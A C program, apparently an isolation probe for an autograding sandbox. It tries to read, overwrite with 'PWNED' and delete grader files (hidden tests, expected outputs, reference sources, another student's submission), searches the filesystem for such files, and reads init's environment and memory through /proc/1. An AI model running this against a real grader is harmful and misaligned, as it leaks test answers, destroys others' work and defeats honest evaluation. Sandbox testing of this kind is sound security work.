/* Attack: read and overwrite the grader's files. Each argument is a host path
 * (hidden tests, expected outputs, reference sources and binaries, the report,
 * another student's submission); then the whole visible tree is searched for
 * files that look like them. Prints what it could read or write. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Print the start of a file we could open, so a leak shows in the output. */
static void
attempt(const char *path)
{
	char buf[256];
	int fd = open(path, O_RDONLY);
	if (fd >= 0) {
		ssize_t n = read(fd, buf, sizeof(buf) - 1);
		buf[n > 0 ? n : 0] = '\0';
		printf("READ_OK %s: %s\n", path, buf);
		close(fd);
	} else {
		printf("READ_FAIL %s: %s\n", path, strerror(errno));
	}
	fd = open(path, O_WRONLY | O_APPEND);
	if (fd >= 0 && write(fd, "PWNED\n", 6) == 6)
		printf("WRITE_OK %s\n", path);
	else
		printf("WRITE_FAIL %s: %s\n", path, strerror(errno));
	if (fd >= 0)
		close(fd);
	if (unlink(path) == 0)
		printf("UNLINK_OK %s\n", path);
}

/* Walk a directory looking for grader-looking files (bounded depth). */
static void
walk(const char *dir, int depth)
{
	if (depth > 6)
		return;
	DIR *d = opendir(dir);
	if (d == NULL)
		return;
	struct dirent *de;
	char path[4096];
	while ((de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", strcmp(dir, "/") ? dir : "", de->d_name);
		if (!strcmp(path, "/proc") || !strcmp(path, "/sys") || !strcmp(path, "/usr") || !strcmp(path, "/dev") ||
		    !strcmp(path, "/etc"))
			continue;
		struct stat st;
		if (lstat(path, &st) != 0)
			continue;
		if (S_ISDIR(st.st_mode))
			walk(path, depth + 1);
		else if (strstr(de->d_name, "hidden") || strstr(de->d_name, ".yaml") ||
			 strstr(de->d_name, "expected") || strstr(de->d_name, "report") ||
			 strstr(de->d_name, "ipcgrade-secret"))
			printf("FOUND %s\n", path);
	}
	closedir(d);
}

int
main(int argc, char **argv)
{
	for (int i = 1; i < argc; i++)
		attempt(argv[i]);
	walk("/", 0);
	/* the init's view of the world, and its memory */
	attempt("/proc/1/environ");
	attempt("/proc/1/cmdline");
	attempt("/proc/1/mem");
	attempt("/proc/1/root/etc/hostname");
	puts("DONE");
	return 0;
}
